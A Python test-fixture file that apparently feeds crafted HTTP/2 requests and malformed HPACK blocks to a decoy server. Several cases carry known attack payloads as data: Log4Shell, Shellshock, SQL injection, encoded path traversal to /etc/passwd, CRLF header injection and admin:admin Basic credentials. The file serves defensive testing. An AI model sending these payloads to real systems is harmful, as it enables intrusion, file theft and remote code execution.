# SPDX-License-Identifier: MIT
"""Requests by their fields: HPACK of every kind, methods, paths and values that servers refuse."""

from __future__ import annotations

from tests.decnet_decoys.https.http2.dialogues import HELLO, encoded, frame, req
from tests.decnet_decoys.https.http2.more.clients import HOST, blocks, pseudo

_GET = b"\x82\x87"
"""Of the static table: GET, https."""
_HOST = b"\x41\x0f" + HOST.encode()
_SLASH = b"\x84"
_COOKIES = blocks(
    (*pseudo("mpsa"), ("cookie", "a=1"), ("cookie", "b=2"), ("x-same", "value")),
    (*pseudo("mpsa"), ("cookie", "a=1"), ("cookie", "b=2"), ("x-same", "value")),
)


def _asked(*extra: tuple[str, str], path: str = "/robots.txt", method: str = "GET") -> tuple[bytes, ...]:
    return (HELLO + frame(1, 5, 1, req(path, method, extra)),)


def _block(block: bytes) -> tuple[bytes, ...]:
    return (HELLO + frame(1, 5, 1, block),)


FIELDS: dict[str, tuple[bytes, ...]] = {
    "a block by hand": _block(_GET + _SLASH + _HOST),
    "never indexed": _block(_GET + b"\x14\x01/" + b"\x11\x0f" + HOST.encode()),
    "a literal with a new name": _block(_GET + _SLASH + _HOST + b"\x00\x01x\x01y"),
    "the table, used again": (HELLO + frame(1, 5, 1, _COOKIES[0]), frame(1, 5, 3, _COOKIES[1])),
    "an entry that was evicted": (
        HELLO + frame(1, 5, 1, _GET + _SLASH + _HOST + b"\x20\x3f\xe1\x1f"),
        frame(1, 5, 3, _GET + _SLASH + b"\xbe"),
    ),
    "a table of 0, then an entry": (HELLO + frame(1, 5, 1, b"\x20" + _GET + _SLASH + _HOST + b"\xbe"),),
    "a table resized within a block": _block(_GET + b"\x20" + _SLASH + _HOST),
    "a table a byte too large": _block(b"\x3f\xe2\x1f" + _GET + _SLASH + _HOST),
    "Huffman with EOS": _block(_GET + _SLASH + _HOST + b"\x00\x01x\x84\xff\xff\xff\xff"),
    "Huffman padded by zeros": _block(_GET + _SLASH + _HOST + b"\x00\x01x\x81\x18"),
    "Huffman padded by a byte": _block(_GET + _SLASH + _HOST + b"\x00\x01x\x82\x1f\xff"),
    "an integer without an end": _block(_GET + _SLASH + _HOST + b"\x00\x7f" + b"\xff" * 12),
    "an integer of many zeros": _block(_GET + _SLASH + _HOST + b"\x00\x01x\x7f\x80\x80\x80\x00" + b"y" * 127),
    "a value longer than the block": _block(_GET + _SLASH + _HOST + b"\x00\x01x\x20y"),
    "an index past the table": _block(_GET + _SLASH + _HOST + b"\xbf"),
    "an empty value": _asked(("x", "")),
    "a hundred fields": _asked(*((f"x-{number}", "v") for number in range(100))),
    "a thousand fields": (
        HELLO + frame(1, 5, 1, encoded(*pseudo("mpsa"), *((f"x{number}", "v") for number in range(1000)))),
    ),
    "a field of 4000 bytes": _asked(("x", "~" * 4000)),
    "a field of 12000 bytes": _asked(("x", "~" * 12000)),
    "a path of 2000 bytes": _asked(path="/" + "a" * 2000),
    "a path of 9000 bytes": _asked(path="/" + "a" * 9000),
    "a method of 100 bytes": _asked(method="M" * 100),
    "an empty method": _asked(method=""),
    "an empty path": _asked(path=""),
    "a path that is an URL": _asked(path="https://other.example/robots.txt"),
    "a path with a fragment": _asked(path="/robots.txt#top"),
    "a path with a tab": _asked(path="/a\tb"),
    "a path with NUL": _asked(path="/a\0b"),
    "a path above ASCII": _asked(path="/\u00e9"),
    "a path with a query": _asked(path="/?id=1'%20OR%201=1--"),
    "a directory without its slash": _asked(path="/docs"),
    "the index's name": _asked(path="/index.html"),
    "two slashes": _asked(path="//robots.txt"),
    "a hidden file": _asked(path="/.htaccess"),
    "an encoded way up": _asked(path="/%2e%2e/%2e%2e/etc/passwd"),
    "a star for GET": _asked(path="*"),
    "OPTIONS of a star": _asked(path="*", method="OPTIONS"),
    "OPTIONS of a file": _asked(method="OPTIONS"),
    "HEAD of nothing": _asked(path="/nope", method="HEAD"),
    "PUT": (HELLO + frame(1, 4, 1, req("/x.txt", "PUT")) + frame(0, 1, 1, b"data"),),
    "PATCH": _asked(method="PATCH"),
    "PROPFIND": _asked(path="/", method="PROPFIND"),
    "TRACE of a file": _asked(method="TRACE"),
    "CONNECT with a path": _asked(method="CONNECT"),
    "CONNECT of websockets": (HELLO + frame(1, 4, 1, req(method="CONNECT", extra=((":protocol", "websocket"),))),),
    "scheme http": _block(encoded((":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", HOST))),
    "scheme ftp": _block(encoded((":method", "GET"), (":scheme", "ftp"), (":path", "/"), (":authority", HOST))),
    "an empty scheme": _block(encoded((":method", "GET"), (":scheme", ""), (":path", "/"), (":authority", HOST))),
    "an empty authority": _block(encoded((":method", "GET"), (":scheme", "https"), (":path", "/"), (":authority", ""))),
    "an authority with a port": (HELLO + frame(1, 5, 1, req("/nope", host="www.example.org:8443")),),
    "an authority with a user": (HELLO + frame(1, 5, 1, req("/nope", host="root@www.example.org")),),
    "an authority that is an address": (HELLO + frame(1, 5, 1, req("/docs", host="192.0.2.1")),),
    "authority twice": _asked((":authority", "x")),
    "a status in a request": _asked((":status", "200")),
    "a field with a space": _asked(("a b", "c")),
    "a field with a colon": _asked(("a:b", "c")),
    "a value with CR LF": _asked(("x", "a\r\nset-cookie: b")),
    "a value with spaces around": _asked(("x", "  a  ")),
    "Host beside authority": _asked(("host", HOST)),
    "keep-alive": _asked(("keep-alive", "timeout=5")),
    "proxy-connection": _asked(("proxy-connection", "keep-alive")),
    "upgrade": _asked(("upgrade", "h2c")),
    "transfer-encoding": _asked(("transfer-encoding", "chunked"), path="/nope", method="POST"),
    "te of trailers": _asked(("te", "trailers")),
    "gzip": _asked(("accept-encoding", "gzip"), path="/"),
    "gzip of a text": _asked(("accept-encoding", "gzip"), path="/long.txt"),
    "a range at the end": _asked(("range", "bytes=-5")),
    "a range past the end": _asked(("range", "bytes=9000-")),
    "two ranges": _asked(("range", "bytes=0-1,5-6")),
    "not modified": _asked(("if-modified-since", "Thu, 13 Jun 2024 08:00:01 GMT")),
    "unmodified since long ago": _asked(("if-unmodified-since", "Thu, 13 Jun 2002 08:00:01 GMT")),
    "any ETag": _asked(("if-none-match", "*")),
    "no such ETag": _asked(("if-match", '"x"')),
    "Basic": _asked(("authorization", "Basic YWRtaW46YWRtaW4="), path="/"),
    "Log4Shell": _asked(("user-agent", "${jndi:ldap://192.0.2.1/a}"), path="/"),
    "Shellshock": _asked(("user-agent", "() { :; }; /bin/id"), path="/cgi-bin/test.cgi"),
    "a stylesheet": _asked(path="/style.css"),
    "an empty file": _asked(path="/empty.txt"),
    "an empty file's head": _asked(path="/empty.txt", method="HEAD"),
    "data of no type": _asked(path="/data.bin"),
}
